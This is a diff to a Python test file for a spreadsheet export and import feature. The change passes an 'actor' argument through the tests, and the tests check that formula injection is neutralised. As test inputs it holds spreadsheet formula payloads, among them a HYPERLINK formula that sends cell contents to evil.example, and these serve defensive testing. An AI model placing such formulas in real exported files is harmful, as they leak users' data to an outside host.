@@ -30,18 +30,18 @@ def test_neutralise_then_restore_gives_the_text_back(text):
     assert restore(out) == text
 
 
-def _first_code(conn, group):
-    return actions_sheet.action_records(conn, group_id=group.id, today=TODAY)[0]["code"]
+def _first_code(conn, group, actor):
+    return actions_sheet.ActionsAdapter(group.id, TODAY).records(conn, actor=actor)[0]["code"]
 
 
 @pytest.mark.parametrize("lang", ["en", "fr"])
 def test_hyperlink_evidence_is_exported_as_text_and_reimports_unchanged(demo_conn, group, actor, lang):
-    code = _first_code(demo_conn, group)
+    code = _first_code(demo_conn, group, actor)
     action_id = action_id_by_code(demo_conn, code=code)
     evidence = '=HYPERLINK("http://evil.example/steal?d="&A1,"Report")'
     update_action_item(demo_conn, action_id=action_id, expected_version=get_action_item(demo_conn, action_id=action_id).version,
                        data=ActionItemUpdate(evidence=evidence, evidence_link="@SUM(1+1)"), actor=actor, today=TODAY)
-    data = actions_sheet.export_actions(demo_conn, group_id=group.id, lang=lang, today=TODAY)
+    data = actions_sheet.export_actions(demo_conn, group_id=group.id, actor=actor, lang=lang, today=TODAY)
 
     # No formula anywhere in the file: every cell of the sheet XML is a string or a number.
     with zipfile.ZipFile(io.BytesIO(data)) as z:
@@ -60,17 +60,17 @@ def test_hyperlink_evidence_is_exported_as_text_and_reimports_unchanged(demo_con
 
 
 def test_a_typed_leading_quote_survives_the_round_trip(demo_conn, group, actor):
-    code = _first_code(demo_conn, group)
+    code = _first_code(demo_conn, group, actor)
     action_id = action_id_by_code(demo_conn, code=code)
     update_action_item(demo_conn, action_id=action_id, expected_version=get_action_item(demo_conn, action_id=action_id).version,
                        data=ActionItemUpdate(evidence="'=not a formula"), actor=actor, today=TODAY)
-    data = actions_sheet.export_actions(demo_conn, group_id=group.id, lang="en", today=TODAY)
+    data = actions_sheet.export_actions(demo_conn, group_id=group.id, actor=actor, lang="en", today=TODAY)
     preview = preview_import(demo_conn, actions_sheet.ActionsAdapter(group.id, TODAY), data)
     assert preview.ok and preview.counts()["changed"] == 0
 
 
 def test_audit_csv_never_starts_a_cell_with_a_formula(demo_conn, group, actor):
-    code = _first_code(demo_conn, group)
+    code = _first_code(demo_conn, group, actor)
     action_id = action_id_by_code(demo_conn, code=code)
     update_action_item(demo_conn, action_id=action_id, expected_version=get_action_item(demo_conn, action_id=action_id).version,
                        data=ActionItemUpdate(evidence="x", note="=HYPERLINK(\"http://evil.example\")"), actor=actor, today=TODAY)
